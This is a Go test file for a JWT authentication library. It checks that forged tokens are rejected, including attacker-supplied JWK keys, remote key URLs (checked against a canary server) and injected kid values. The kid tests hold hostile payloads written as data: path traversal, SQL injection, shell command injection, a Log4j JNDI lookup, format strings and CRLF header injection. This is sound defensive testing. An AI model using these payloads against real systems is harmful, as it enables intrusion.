package authjwt_test

import (
	"context"
	"crypto"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/gin-authjwt/authjwt"
)

func TestJ09_JWKHeader(t *testing.T) {
	const foreign = "the-attacker-brings-this-key-along-0123456789"
	own := `{"alg":"HS256","jwk":{"kty":"oct","k":"` + b64(foreign) + `"}}`
	repel(t, newManager(t), []attack{
		{"self-signed", compactWith(t, "HS256", foreign, own, goodPayload()), hs256(t, own), isSignature, nil},
		headerPair(t, `{"alg":"RS256","jwk":{"kty":"RSA","n":"AQAB","e":"AQAB"}}`, "RS256", "HS256", isAlgorithm),
		// The twin shows that the member is not even looked at.
		headerPair(t, `{"alg":"none","jwk":7}`, "none", "HS256", isAlgorithm),
	})
}

// theKeys are Managers that verify with the key pair of an algorithm: by itself, in a ring, and out of a KeySet.
func theKeys(t *testing.T, alg string) map[string]*authjwt.Manager {
	set := new(issuer)
	set.returns(publicKey(alg))
	ring := must(authjwt.NewKeyRing(authjwt.Key{ID: "k1", PublicKey: publicKey(alg), Algorithm: alg}))
	named := func(s *authjwt.Settings) { s.KeyID = "k1" }
	one := func(s *authjwt.Settings) { s.Algorithm = alg } // of the KeySet, which answers whatever it is asked
	return map[string]*authjwt.Manager{
		"pair": newManager(t, signsWith(alg), named), "public half": newManager(t, verifiesWith(alg), named), "ring": newManager(t, withKeys(ring)),
		"set": newManager(t, withKeySet(set), one), "set, cache": newManager(t, withKeySet(set), one, caching),
	}
}

func TestJ09_JWKHeader_KeyPair(t *testing.T) {
	for alg, foreign := range map[string]crypto.Signer{"RS256": otherRSA(), "PS256": otherRSA(), "ES256": otherP256(), "EdDSA": otherEd()} {
		jwk := publicTexts(t, foreign.Public())["JWK"]
		var attacks []attack
		for _, more := range []string{`,"kid":"k1","jwk":` + jwk, `,"jwk":` + jwk, `,"kid":"k1","jwk":[` + jwk + `]`, `,"kid":"k1","keys":[` + jwk + `],"jwks":{"keys":[` + jwk + `]}`} {
			header := headerOf(alg, more)
			attacks = append(attacks, attack{more, compactBy(t, alg, foreign, header, goodPayload()), byTheirs(t, alg, more), isSignature, nil})
		}
		for name, m := range theKeys(t, alg) {
			t.Run(alg+"/"+name, func(t *testing.T) { repel(t, m, attacks) })
		}
	}
}

// A canary is a server at which nobody may call.
func canary(t *testing.T) (url string) {
	var connections atomic.Int32
	server := httptest.NewUnstartedServer(http.NotFoundHandler())
	server.Config.ConnState = func(_ net.Conn, state http.ConnState) {
		if state == http.StateNew {
			connections.Add(1)
		}
	}
	server.Start()
	t.Cleanup(func() {
		assert.Zero(t, connections.Load())
		res, err := http.Get(server.URL) // it is alive
		if assert.NoError(t, err) {
			assert.NoError(t, res.Body.Close())
		}
		assert.EqualValues(t, 1, connections.Load())
		server.Close()
	})
	return server.URL
}

// keyURLs are header parameters that name a key at a server.
func keyURLs(server string) (all []string) {
	for _, parameter := range []string{`"jku":"%s"`, `"x5u":"%s"`, `"x5c":["%s"]`, `"jku":["%s"]`, `"kid":"%s"`, `"jwk":{"jku":"%s"}`, `"iss":"%s"`, `"x5t":"%s"`, `"jwks_uri":"%s"`} {
		all = append(all, fmt.Sprintf(parameter, server+"/keys"))
	}
	return all
}

func TestJ10_KeyURLs(t *testing.T) {
	server := canary(t)
	const foreign = "the-attacker-serves-this-key-0123456789abcdef"
	var attacks []attack
	for _, parameter := range keyURLs(server) {
		header := `{"alg":"HS256",` + parameter + `}`
		attacks = append(attacks,
			attack{parameter, compactWith(t, "HS256", foreign, header, goodPayload()), hs256(t, header), isSignature, []string{server}},
			headerPair(t, strings.Replace(header, "HS256", "RS256", 1), "RS256", "HS256", isAlgorithm))
	}
	repel(t, newManager(t), attacks)
}

func TestJ10_KeyURLs_KeyPair(t *testing.T) {
	server := canary(t)
	for alg, foreign := range map[string]crypto.Signer{"RS256": otherRSA(), "EdDSA": otherEd()} {
		for name, m := range theKeys(t, alg) {
			var attacks []attack
			for _, parameter := range keyURLs(server) {
				if more := "," + parameter; strings.HasPrefix(name, "set") || !strings.Contains(parameter, "kid") { // the others have another
					attacks = append(attacks, attack{parameter, compactBy(t, alg, foreign, headerOf(alg, more), goodPayload()), byTheirs(t, alg, more), isSignature, []string{server}})
				}
			}
			t.Run(alg+"/"+name, func(t *testing.T) { repel(t, m, attacks) })
		}
	}
}

func TestJ11_KeyIDInjection(t *testing.T) {
	const minimal = `{"sub":"a","exp":1772366460,"type":"access"}`
	require.Greater(t, int64(1772366460), testNow.Unix())
	long := strings.Repeat("k", 6000)
	kids := []struct{ name, kid, secret string }{
		{"traversal", `../../../../dev/null`, "dev/null"},
		{"absolute path", `/proc/sys/kernel/randomize_va_space`, "randomize_va_space"},
		{"UNC path", `\\\\host\\share\\key`, "share"},
		{"SQL", `x' UNION SELECT 'secret';--`, "UNION"},
		{"command", `k; $(touch /tmp/owned) | id`, "touch"},
		{"template", `{{7*7}}${jndi:ldap://host/a}`, "jndi"},
		{"format", `%s%n%!d(string=owned)`, "owned"},
		{"NUL", `k1\u0000behind`, "behind"},
		{"CRLF", `k1\r\nSet-Cookie: stolen=1\r\n\r\n<html>`, "stolen"},
		{"escape sequence", `k1\u001b[31mred`, "[31m"},
		{"pattern", `k*`, ""}, {"prefix", `k`, ""}, {"suffix", `k11`, ""}, {"upper case", `K1`, ""}, {"blank behind", `k1 `, ""}, {"empty", ``, ""},
		{"6 kB", long, long[:64]},
	}
	with := newManager(t, func(s *authjwt.Settings) { s.KeyID = "k1" })
	without := newManager(t)
	token := func(kid string) string { return compact(t, "HS256", `{"alg":"HS256","kid":"`+kid+`"}`, minimal) }
	var known, forged []attack
	for _, k := range kids {
		var secrets []string
		if k.secret != "" {
			secrets = []string{k.secret}
		}
		known = append(known, attack{k.name, token(k.kid), token("k1"), isKey, secrets})
		other := compactWith(t, "HS256", strings.ToUpper(testSecret), `{"alg":"HS256","kid":"`+k.kid+`"}`, minimal)
		// Without KeyID a kid has no meaning, so the twin with the same kid under the right MAC is good.
		forged = append(forged, attack{"ignored " + k.name, other, token(k.kid), isSignature, secrets})

		g := guard(t, without.Required())
		rec := g.get("Bearer " + token(k.kid))
		g.assertAccepted(t, rec)
		for _, secret := range secrets {
			assert.NotContains(t, g.log.String(), secret)
			assert.NotContains(t, fmt.Sprint(rec.Header()), secret)
		}
	}
	repel(t, with, known)
	repel(t, without, forged)
	repel(t, with, []attack{ // what is known, told apart by its value and not by its spelling
		{"escaped", token(`k\u0032`), token(`k\u0031`), isKey, nil},
		{"other kid, no kid", token("k2"), compact(t, "HS256", `{"alg":"HS256"}`, minimal), isKey, nil},
	})
}

// A KeySet gets the kid as it is, and nothing else does.
func TestJ11_KeyIDInjection_KeySet(t *testing.T) {
	for kid, secret := range map[string]string{
		`../../../../dev/null`: "dev/null", `x' UNION SELECT 'secret';--`: "UNION", `k; $(touch /tmp/owned) | id`: "touch", `%s%n%!d(string=owned)`: "owned",
		"k1\x00behind": "behind", "k1\r\nSet-Cookie: stolen=1": "stolen", "k1\x1b[31mred": "[31m", "": "", " ": "", "k1 ": "", "K1": "", strings.Repeat("k", 5000): "kkkk",
	} {
		j, i := newIssued(t)
		i.answer = func(_ context.Context, kid, _ string) (crypto.PublicKey, error) {
			if kid == "k1" {
				return publicKey("EdDSA"), nil
			}
			return nil, nil
		}
		named := `,"kid":` + string(must(json.Marshal(kid)))
		token := compactBy(t, "EdDSA", ed25519Key(), headerOf("EdDSA", named), goodPayload())
		refusesKey(t, j, token)
		assert.Equal(t, []string{kid + "/EdDSA", kid + "/EdDSA"}, i.asked)
		rec := j.get("Bearer " + token)
		for _, text := range []string{rec.Body.String(), fmt.Sprint(rec.Header()), j.log.String(), j.left.Error()} {
			assert.True(t, secret == "" || !strings.Contains(text, secret), "%q", kid)
		}
		j.accepts(t, byTheirs(t, "EdDSA", withKid("k1")))
		j.accepts(t, byTheirs(t, "EdDSA", `,"k\u0069d":"\u006b1"`)) // another spelling of it
	}
}
